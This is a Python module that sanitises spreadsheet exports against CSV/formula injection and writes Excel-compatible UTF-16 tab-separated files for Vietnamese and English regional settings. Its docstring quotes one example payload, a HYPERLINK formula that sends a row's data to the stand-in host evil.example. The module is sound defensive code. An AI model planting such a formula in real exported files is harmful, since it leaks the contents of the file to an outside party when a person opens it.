"""Spreadsheet cells that open safely (CSV/formula injection, as OWASP describes it).

A spreadsheet reads a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage
return, which some programs skip before looking) as a formula: a unit named
`=HYPERLINK("http://evil.example/?leak="&A2,"…")` would send the row next to it away when the
file is opened. Every CSV and TSV the bot writes passes its cells through `cell`, which puts a
single quote in front of such text, so the spreadsheet shows it as text. Numbers are left
alone: a count stays a number, and a negative number written as a number is not text.

The same starts are refused where names are typed (`starts_like_formula`), so new names never
need the quote; the quote is for names stored before the refusal existed.

It lives in the domain, the lowest layer, so the exports, the command line and the name rules
all use the one definition.

**Files for Excel** (`ExcelCsvWriter`). A CSV is opened by double-click, and Excel then reads
it by the computer's regional settings: with Vietnamese ones the list separator is `;` and the
decimal mark `,`, with English ones `,` and `.`, so one comma- or semicolon-separated file opens
in a single column on half the computers. A `sep=,` first line fixes the separator but makes
Excel ignore the UTF-8 byte-order mark, and every Vietnamese letter is garbled. The one form
Excel opens in columns whatever the settings is its own «Unicode Text»: UTF-16 with a BOM,
tab-separated (quoted as CSV). Excel also guesses each cell's type, by the same settings:
`01` becomes the number 1, `1/2` a date (1 February or 2 January), `4.5` a date or text. So a
cell is written in a form both settings read alike: whole numbers as digits, dates as
`yyyy-mm-dd` (and `yyyy-mm-dd hh:mm`), other numbers as an exact fraction (`=9/2`), and text
Excel would take for a number or a date (a unit code `01`, a title `1/5`) as the text formula
`="01"`, which can hold nothing but digits and punctuation, so it is no way in for a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from collections.abc import Iterable
from fractions import Fraction
from functools import lru_cache
from typing import IO, Any

FORMULA_STARTS = frozenset("=+-@\t\r")


def starts_like_formula(text: str) -> bool:
    """Would a spreadsheet read this text, written as a cell, as a formula?"""
    return text[:1] in FORMULA_STARTS


def cell(value: object) -> object:
    """The value to write: text that starts like a formula gets a leading `'`; else as is."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def row(values: Iterable[object]) -> list[object]:
    return [cell(value) for value in values]


def tsv_line(*values: object) -> str:
    """One tab-separated line. A tab or line break inside a cell would start a new cell or
    row (which might then start with `=`), so it becomes a space, after the quote is added."""
    return "\t".join(
        str(cell(value)).replace("\t", " ").replace("\r", " ").replace("\n", " ")
        for value in values
    )


class SafeCsvWriter:
    """`csv.writer` whose every row goes through `row`."""

    def __init__(self, handle: Any) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, values: Iterable[object]) -> None:
        self._writer.writerow(row(values))


# ---- CSV files for Excel ----------------------------------------------------------------

EXCEL_CSV_ENCODING = "utf-16-le"  # with the BOM written first: Excel's «Unicode Text»
EXCEL_CSV_DELIMITER = "\t"
READ_ENCODING = "utf-16"  # for reading one back: the BOM tells the byte order
_MONTHS = "jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec"
# Text a spreadsheet would turn into a number, a percentage, a date, a time or a truth value
# under some regional settings: only digits, spaces and number or date punctuation (with at
# least one digit), an English month name beside digits, or TRUE/FALSE.
_LOOKS_TYPED = re.compile(
    rf"[\d\s.,/:%()$€₫-]*\d[\d\s.,/:%()$€₫eE-]*"
    rf"|(?i:true|false|đúng|sai)"
    rf"|\d{{0,4}}[\s/.-]*(?i:{_MONTHS})[a-z]*[\s/.,-]*\d{{0,4}}(?:[\s/.-]*\d{{1,4}})?"
)


@lru_cache(maxsize=65536)
def _excel_text(text: str) -> str:
    if not text:
        return text
    if starts_like_formula(text):
        return "'" + text
    if _LOOKS_TYPED.fullmatch(text):
        # Digits and punctuation only (no quote can be inside): shown as it is, kept as text.
        return f'="{text}"'
    return text


def excel_cell(value: object) -> object:
    """The value as a CSV cell Excel reads the same under Vietnamese and English settings."""
    if value is None:
        return ""
    if isinstance(value, bool):  # TRUE/FALSE are words of English settings only: 1 or 0
        return int(value)
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        if value.is_integer():
            return int(value)
        exact = Fraction(str(value))
        return f"={exact.numerator}/{exact.denominator}"
    if isinstance(value, dt.datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, dt.date):
        return value.isoformat()
    return _excel_text(str(value))


class ExcelCsvWriter:
    """Rows for a CSV file Excel opens in columns whatever its regional settings: write it to
    a handle from `open_excel_csv`. Formula-looking text is quoted as `cell` does."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle, delimiter=EXCEL_CSV_DELIMITER, lineterminator="\r\n")

    def writerow(self, values: Iterable[object]) -> None:
        self._writer.writerow([excel_cell(value) for value in values])

    def writerows_ready(self, rows: Iterable[list[object]]) -> None:
        """Rows whose cells already went through `excel_cell` (the records' hot loop)."""
        self._writer.writerows(rows)


def open_excel_csv(path: Any) -> IO[str]:
    """A text handle writing `path` as Excel's «Unicode Text», the BOM already written."""
    handle = open(path, "w", encoding=EXCEL_CSV_ENCODING, newline="")  # noqa: SIM115
    handle.write("\ufeff")
    return handle
